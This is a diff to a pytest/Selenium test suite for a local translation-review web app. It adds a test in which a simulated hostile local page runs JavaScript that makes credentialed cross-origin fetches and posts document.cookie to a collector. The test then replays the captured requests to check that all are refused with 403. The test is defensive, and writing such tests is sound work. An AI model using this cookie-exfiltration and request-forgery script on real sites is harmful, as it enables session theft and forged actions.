@@ -8,13 +8,19 @@ Selenium Manager (which could fetch drivers) never runs; the test makes sure of 
 
 from __future__ import annotations
 
+import http.server
+import json
 import re
 import shutil
 import signal
 import subprocess
 import sys
+import threading
+import urllib.error
+import urllib.request
 from collections.abc import Iterator
 from pathlib import Path
+from typing import ClassVar
 
 import pytest
 
@@ -95,6 +101,12 @@ def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[WebDriv
         driver.quit()
 
 
+TOKEN_CHARS = re.compile(r"[\w-]{40,}")
+DECISION = json.dumps(
+    {"lang": "es", "doc": "doc", "msgid": "Bien sûr.", "msgstr": "Pirate.", "base": ""}
+).encode()
+
+
 def shoot(driver: WebDriver, name: str) -> None:
     artifacts = REPO / "artifacts"
     artifacts.mkdir(exist_ok=True)
@@ -135,10 +147,16 @@ def test_review_in_the_browser(served: tuple[str, Path], browser: WebDriver) -> 
     assert spanish.find_element(By.CSS_SELECTOR, '.count[data-state="fuzzy_mt"]').text == "6"
     shoot(browser, "serve-dashboard.png")
 
-    # A review page: the least confident entry first, with the memory's match.
-    spanish.find_element(By.CSS_SELECTOR, "a.review-link").click()
+    # The review link leads to the document's first entry to do, in document order.
+    link = spanish.find_element(By.CSS_SELECTOR, "a.review-link")
+    assert link.text == "Review doc in Spanish (6 to do)"
+    link.click()
     WebDriverWait(browser, 10).until(lambda d: d.find_elements(By.ID, "entry"))
-    assert current(browser) == MATCHED
+    assert current(browser) == "Le rapport annuel"
+    assert browser.title == "Entry 1 of 6 · doc · Spanish · tirage"
+    # Least confident first is a choice: the entry with the memory's match comes first.
+    browser.find_element(By.LINK_TEXT, "least confident first").click()
+    WebDriverWait(browser, 10).until(lambda d: current(d) == MATCHED)
     assert browser.find_element(By.ID, "msgstr").get_attribute("lang") == "es"
     assert "¿Tiene él los medios?" in browser.find_element(By.CSS_SELECTOR, ".matches").text
     shoot(browser, "serve-review.png")
@@ -198,6 +216,7 @@ def test_review_in_the_browser(served: tuple[str, Path], browser: WebDriver) -> 
     box.clear()
     box.send_keys("Texto de Poedit, revisado.")
     browser.find_element(By.ID, "keep-mine").click()
+    assert browser.find_element(By.ID, "status").text == ""  # the conflict is resolved
     press(browser, Keys.CONTROL, Keys.ENTER)
     skipped = moved_on_from(browser, conflicted)
     assert entry(catalog, conflicted) == ("Texto de Poedit, revisado.", False)
@@ -215,3 +234,92 @@ def test_review_in_the_browser(served: tuple[str, Path], browser: WebDriver) -> 
     assert marked[0].value_of_css_property("background-color") == "rgba(255, 241, 184, 1)"
     banner = browser.find_element(By.CSS_SELECTOR, ".tirage-preview")
     assert banner.value_of_css_property("background-color") == "rgba(31, 58, 95, 1)"
+
+
+class Recorder(http.server.BaseHTTPRequestHandler):
+    """Another local server, as a hostile or careless page on 127.0.0.1 would be: it keeps
+    every request the browser makes to it, and its page makes the browser ask the desk's
+    port for everything it can, and send back whatever it can read."""
+
+    seen: ClassVar[list[tuple[str, str, dict[str, str], bytes]]] = []
+    desk_port: ClassVar[int] = 0
+
+    def do_GET(self) -> None:
+        self.keep()
+        desk = f"http://127.0.0.1:{self.desk_port}"
+        page = f"""<!DOCTYPE html><title>elsewhere</title>
+<img src="{desk}/"><img src="{desk}/api/decide"><img src="/pixel">
+<script>
+const tries = ["{desk}/", "{desk}/review/es/doc", "{desk}/static/desk.js"];
+Promise.allSettled(tries.map(u => fetch(u, {{credentials: "include", mode: "no-cors"}})))
+  .then(() => fetch("/collect", {{method: "POST", credentials: "include",
+     body: document.cookie + "|" + document.referrer}}))
+  .then(() => {{ document.title = "done"; }});
+</script>"""
+        body = page.encode() if self.path == "/" else b""
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_POST(self) -> None:
+        self.keep()
+        self.send_response(204)
+        self.end_headers()
+
+    def keep(self) -> None:
+        length = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(length) if self.command == "POST" else b""
+        Recorder.seen.append((self.command, self.path, dict(self.headers.items()), body))
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def test_nothing_another_local_page_receives_opens_the_desk(
+    served: tuple[str, Path], browser: WebDriver
+) -> None:
+    url, catalog = served
+    before = catalog.read_bytes()
+    desk_port = int(url.split(":")[2].split("/")[0])
+    browser.get(url)
+    WebDriverWait(browser, 10).until(lambda d: d.find_elements(By.CSS_SELECTOR, "table.catalogs"))
+    session = [c["value"] for c in browser.get_cookies()]
+    assert session and all(TOKEN_CHARS.fullmatch(value) for value in session)
+
+    Recorder.seen = []
+    Recorder.desk_port = desk_port
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        elsewhere = f"http://127.0.0.1:{server.server_address[1]}"
+        browser.get(elsewhere + "/")
+        WebDriverWait(browser, 10).until(lambda d: d.title == "done")
+        browser.get(elsewhere + "/review/es/doc?filter=all")  # the desk's paths, elsewhere
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert {path for _, path, _, _ in Recorder.seen} >= {"/", "/pixel", "/collect"}
+    received = repr(Recorder.seen)
+    for value in session:
+        assert value not in received  # the desk's cookie never left for another port
+
+    # Replay everything received, as it came and aimed at the desk's paths: all 403.
+    statuses = []
+    for method, path, headers, body in Recorder.seen:
+        headers = {k: v for k, v in headers.items() if k.lower() not in ("content-length",)}
+        for target in {path, "/", "/api/decide", "/api/check", "/review/es/doc"}:
+            for verb, data in ((method, body or None), ("POST", DECISION)):
+                request = urllib.request.Request(
+                    f"http://127.0.0.1:{desk_port}{target}", data=data, method=verb
+                )
+                for key, value in headers.items():
+                    request.add_header(key, value)
+                request.add_header("X-Tirage-CSRF", headers.get("Cookie", "guess"))
+                try:
+                    with urllib.request.urlopen(request, timeout=10) as response:
+                        statuses.append(response.status)
+                except urllib.error.HTTPError as refused:
+                    statuses.append(refused.code)
+    assert statuses and set(statuses) == {403}
+    assert catalog.read_bytes() == before
